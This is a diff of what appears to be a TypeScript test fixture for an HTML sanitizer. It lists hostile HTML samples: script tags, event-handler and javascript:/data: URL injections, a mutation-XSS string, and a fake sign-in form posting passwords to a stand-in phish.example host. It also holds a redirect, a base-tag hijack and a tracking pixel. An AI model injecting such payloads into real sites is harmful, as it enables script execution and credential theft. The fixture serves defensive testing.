@@ -1,18 +1,18 @@
 import { hostileMark } from "./landmarks";
 
-const run = (n: number) => `window.${hostileMark}=${n}`;
+const buildScript = (id: number) => `window.${hostileMark}=${id}`;
 
 /**
- * HTML that tries to do what it must not, as it comes in from websites and inboxes: every reader of stored HTML
- * must render it harmless. Each stands after a sentence of honest text.
+ * Malicious HTML, as websites and inboxes deliver it. All code that shows stored HTML must make it harmless. The
+ * seed places it after ordinary text.
  */
 export const hostileHtml: string[] = [
-  `<p>A <b>light-filled</b> room.</p><script>${run(1)}</script><img src=x onerror="${run(2)}"><p style="position:fixed;inset:0;background:red">Winter prices from June.</p>`,
-  `<p onclick="${run(3)}">Ask about <a href="javascript:${run(4)}">our brochure</a> or <a href="  java&#10;script:${run(5)}">the menu</a>.</p><svg onload="${run(6)}"><circle r="9"/></svg>`,
-  `<p>Parking for 40 cars.<iframe src="data:text/html,<script>parent.${run(7)}</script>"></iframe><object data="data:text/html;base64,PHNjcmlwdD4="></object></p><meta http-equiv="refresh" content="0;url=https://phish.example/">`,
-  `<p>Heritage listed since 1911.<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run(8)}&gt;"></mglyph></table></mtext></math>`,
-  `<p>Two bars, one kitchen.</p><form action="https://phish.example/collect" method="post"><input name="password" autofocus onfocus="${run(9)}"><button>Sign in again</button></form><base href="https://phish.example/">`,
-  `<div style="background:url(javascript:${run(10)})"><p>Step-free access.<b>Lift to all floors<p>Unclosed <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">floor plan`,
-  `</textarea></title></script><p>Dance floor included.</p><img src="https://tracker.example/pixel.gif?u=1" width=1 height=1><video><source onerror="${run(11)}"></video><details open ontoggle="${run(12)}">More</details>`,
-  `<p>Private dining for twelve.</p><style>@import "https://phish.example/x.css"; body{display:none}</style><link rel="stylesheet" href="https://phish.example/x.css"><svg><a xlink:href="javascript:${run(13)}"><text y="20">Menu</text></a><animate onbegin="${run(14)}"/></svg>`,
+  `<p>A <b>light-filled</b> room.</p><script>${buildScript(1)}</script><img src=x onerror="${buildScript(2)}"><p style="position:fixed;inset:0;background:red">Winter prices from June.</p>`,
+  `<p onclick="${buildScript(3)}">Ask about <a href="javascript:${buildScript(4)}">our brochure</a> or <a href="  java&#10;script:${buildScript(5)}">the menu</a>.</p><svg onload="${buildScript(6)}"><circle r="9"/></svg>`,
+  `<p>Parking for 40 cars.<iframe src="data:text/html,<script>parent.${buildScript(7)}</script>"></iframe><object data="data:text/html;base64,PHNjcmlwdD4="></object></p><meta http-equiv="refresh" content="0;url=https://phish.example/">`,
+  `<p>Heritage listed since 1911.<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${buildScript(8)}&gt;"></mglyph></table></mtext></math>`,
+  `<p>Two bars, one kitchen.</p><form action="https://phish.example/collect" method="post"><input name="password" autofocus onfocus="${buildScript(9)}"><button>Sign in again</button></form><base href="https://phish.example/">`,
+  `<div style="background:url(javascript:${buildScript(10)})"><p>Step-free access.<b>Lift to all floors<p>Unclosed <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">floor plan`,
+  `</textarea></title></script><p>Dance floor included.</p><img src="https://tracker.example/pixel.gif?u=1" width=1 height=1><video><source onerror="${buildScript(11)}"></video><details open ontoggle="${buildScript(12)}">More</details>`,
+  `<p>Private dining for twelve.</p><style>@import "https://phish.example/x.css"; body{display:none}</style><link rel="stylesheet" href="https://phish.example/x.css"><svg><a xlink:href="javascript:${buildScript(13)}"><text y="20">Menu</text></a><animate onbegin="${buildScript(14)}"/></svg>`,
 ];
